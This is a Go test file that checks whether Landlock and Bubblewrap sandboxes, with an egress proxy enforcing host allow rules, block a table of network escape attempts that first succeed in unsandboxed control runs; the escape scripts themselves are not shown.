func (w *world) run(t *testing.T, script string, start func(*exec.Cmd) error) (string, bool) {
	t.Helper()
	r, out, err := os.Pipe()
	require.NoError(t, err)
	defer r.Close()
	cmd := w.command(script, out)
	in, err := cmd.StdinPipe()
	require.NoError(t, err)
	err = start(cmd)
	out.Close()
	require.NoError(t, err)
	var text bytes.Buffer
	err = w.finish(cmd, in, r, &text)
	return text.String(), err == nil
}

// in returns a function that starts commands in a sandbox, with a session of a proxy, and a
// function that ends the session.
func in(ctx context.Context, box tools.Sandbox, p *egress.Proxy, ask egress.AskFunc) (func(*exec.Cmd) error, func()) {
	s := p.Session(ctx, ask)
	return func(cmd *exec.Cmd) error {
		roots, err := p.Roots()
		if err != nil {
			return err
		}
		r, err := box.Start(ctx, cmd, tools.SandboxCall{Proxy: s.Serve, Roots: roots})
		if err == nil && (!r.Proxied || !r.Network) {
			err = errors.New("the sandbox does not claim to hold: " + r.String())
		}
		return err
	}, func() { s.Close() }
}

func yes(context.Context, egress.Destination) (bool, string) { return true, "" }

// boxes returns the sandboxes of this machine.
func boxes(t *testing.T, ws *workspace.Workspace, opts ...tools.SandboxOption) map[string]*tools.LocalSandbox {
	out := map[string]*tools.LocalSandbox{}
	exe, err := os.Executable()
	require.NoError(t, err)
	opts = append(opts, tools.WithSandboxRead(filepath.Dir(exe)))
	for name, make := range map[string]func(tools.FS, ...tools.SandboxOption) (*tools.LocalSandbox, error){
		"landlock": tools.Landlock, "bwrap": tools.Bubblewrap,
	} {
		box, err := make(ws, opts...)
		require.NoError(t, err)
		t.Cleanup(func() { require.NoError(t, box.Close()) })
		if _, err := tools.CheckSandbox(t.Context(), box, tools.SandboxCall{Proxy: func(l net.Listener) { l.Close() }}); err != nil {
			require.NotContains(t, err.Error(), "got out")
			t.Logf("skipped here: %v", err)
			continue
		}
		out[name] = box
	}
	if len(out) == 0 {
		t.Skip("no sandbox of this machine can hand connections to a proxy")
	}
	return out
}

// TestWaysOut tries to get out of each sandbox, and out of none or by a proxy that permits
// everything, where the same attempt must succeed.
func TestWaysOut(t *testing.T) {
	w := newWorld(t)
	all := boxes(t, w.ws)
	names := func(port string) (rules []egress.Rule) {
		for _, host := range []string{"allowed.test", "*.sub.test"} {
			rules = append(rules, egress.Rule{Host: host + ":" + w.script(port), Action: egress.Allow, Private: true})
		}
		return append(rules, egress.Rule{Host: "rebind.test:*", Action: egress.Allow},
			egress.Rule{Host: "inspect.test:" + w.script(port), Action: egress.Allow, Private: true, Inspect: true})
	}
	own := egress.WithTLSConfig(&tls.Config{InsecureSkipVerify: true})
	strict, err := egress.New(egress.WithRules(append(names("{http}"), names("{tls}")...)...), egress.WithResolver(w.resolver), own)
	require.NoError(t, err)
	any, err := egress.New(egress.WithRules(egress.Rule{Host: "*", Private: true, Tunnel: true}), egress.WithResolver(w.resolver), own)
	require.NoError(t, err)
	tried, absent, reduced := 0, 0, timed.Reduced(t)
	for i, tt := range ways {
		if reduced && i%16 != 0 && !tt.reaches {
			continue // the race detector finds nothing in other processes
		}
		t.Run(tt.name, func(t *testing.T) {
			if tt.needs != "" {
				if _, err := exec.LookPath(tt.needs); err != nil {
					absent++
					t.Skipf("this machine lacks %s", tt.needs)
				}
			}
			start, end := (*exec.Cmd).Start, func() {}
			if tt.control == open {
				for _, box := range all {
					start, end = in(t.Context(), box, any, yes)
					break
				}
			}
			text, ok := w.run(t, tt.script, start)
			end()
			hits, good := w.reached()
			got := hits > 0
			switch {
			case tt.reaches:
				got = good > 0
			case tt.control == effect:
				got = ok
			}
			if !got && tt.maybe {
				absent++
				t.Skipf("not possible here even without the wall: %s", text)
			}
			require.True(t, got, "the control failed: %s", text)
			tried++
			for name, box := range all {
				start, end := in(t.Context(), box, strict, nil)
				text, ok := w.run(t, tt.script, start)
				end()
				hits, good := w.reached()
				require.Zero(t, hits, "%s: it got out: %s", name, text)
				require.Equal(t, tt.reaches, good > 0, "%s: %s", name, text)
				if tt.control == effect {
					require.False(t, ok, "%s: %s", name, text)
				}
			}
		})
	}
	t.Logf("%d ways tried in %d sandboxes, %d not possible here", tried, len(all), absent)
}
